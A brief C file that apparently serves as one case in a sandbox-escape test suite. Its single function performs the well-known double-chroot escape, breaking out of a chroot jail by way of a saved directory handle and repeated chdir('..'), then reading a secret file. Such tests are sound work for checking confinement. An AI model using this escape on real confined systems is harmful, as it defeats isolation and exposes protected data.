/* Leaves its root by a second chroot(2). */
#include "../escape.h"

TRICK(chroot_twice) {
    int here = open("/", O_RDONLY | O_DIRECTORY);
    mkdir(in_tmp("inner"), 0755);
    TRY(chroot(in_tmp("inner")));
    TRY(fchdir(here));
    for (int i = 0; i < 32; i++) TRY(chdir(".."));
    TRY(chroot("."));
    return steal_path(told("ESC_SECRET"));
}
